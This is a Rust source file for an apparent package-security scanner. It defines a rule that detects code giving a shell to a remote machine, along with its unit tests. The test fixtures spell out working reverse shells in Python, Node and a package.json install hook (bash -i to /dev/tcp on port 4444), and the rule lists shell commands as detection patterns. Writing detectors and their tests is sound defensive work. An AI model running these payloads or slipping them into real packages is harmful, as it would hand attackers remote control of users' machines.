use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, is_bundle, is_local, peer};
use crate::act::ActKind;
use crate::package::{Package, When};

pub(crate) struct CodeOpensShell;

static INFO: RuleInfo = RuleInfo {
    id: "code-opens-shell",
    title: "Code gives a shell to a remote machine",
    severity: Severity::Critical,
    confidence: Confidence::High,
    attack: &["T1059.004", "T1095"],
    explanation: "A socket is connected and the streams of a shell are put on it, or a command line does so.",
};

impl Rule for CodeOpensShell {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        let mut hits = Vec::new();
        for act in package.acts() {
            let near = |kind| {
                package
                    .acts()
                    .find(|other| other.file == act.file && other.kind == kind)
            };
            let shell = || {
                package.acts().find(|other| {
                    let shell = [
                        "/bin/sh",
                        "/bin/bash",
                        "cmd.exe",
                        "powershell",
                        "bash -i",
                        "sh -i",
                    ];
                    let command = other.text.trim();
                    other.file == act.file
                        && other.kind == ActKind::Spawn
                        && (shell.iter().any(|shell| command.starts_with(shell))
                            || matches!(command, "sh" | "bash" | "cmd"))
                })
            };
            let found = match act.kind {
                ActKind::ReverseShell => Some(act),
                ActKind::Dup => near(ActKind::Connect).and(shell().or(Some(act))),
                ActKind::Connect | ActKind::Net
                    if act.callee.starts_with("net.") || act.callee.starts_with("socket.") =>
                {
                    shell()
                }
                _ => None,
            };
            if let Some(found) = found.filter(|_| !is_local(&act.text)) {
                let when = package.when(act);
                let (severity, confidence) = match when.by_itself() {
                    _ if is_bundle(package, act) && when < When::Start => {
                        (Severity::Low, Confidence::Medium)
                    }
                    true => (Severity::Critical, Confidence::High),
                    false => (Severity::High, Confidence::Medium),
                };
                let clause = format!("gives a shell to {} {}", peer(act), when.words());
                let evidence = [
                    package.evidence(act, "connects here"),
                    package.evidence(found, "the shell"),
                ];
                hits.push(Hit::new(severity, confidence, clause).with(evidence));
            }
        }
        hits
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};

    #[test]
    fn sockets_with_shells_are_found() {
        found(
            "code-opens-shell",
            &[(
                "setup.py",
                "import socket,subprocess,os\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
            )],
        );
        let finding = found(
            "code-opens-shell",
            &[(
                "package.json",
                r#"{"scripts":{"install":"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}}"#,
            )],
        );
        assert_eq!(line(&finding).0, "package.json");
        found(
            "code-opens-shell",
            &[
                ("package.json", "{}"),
                (
                    "index.js",
                    "const c=require('net').connect(4444,'192.0.2.1');const s=require('child_process').spawn('/bin/sh',[]);c.pipe(s.stdin);s.stdout.pipe(c);",
                ),
            ],
        );
    }

    #[test]
    fn sockets_alone_and_shells_alone_are_left_alone() {
        quiet(
            "code-opens-shell",
            &[
                (
                    "a/__init__.py",
                    "import socket\ns=socket.socket()\ns.connect(('h.test',80))",
                ),
                (
                    "a/b.py",
                    "import subprocess\nsubprocess.call(['/bin/sh','-c','ls'])",
                ),
            ],
        );
    }
}
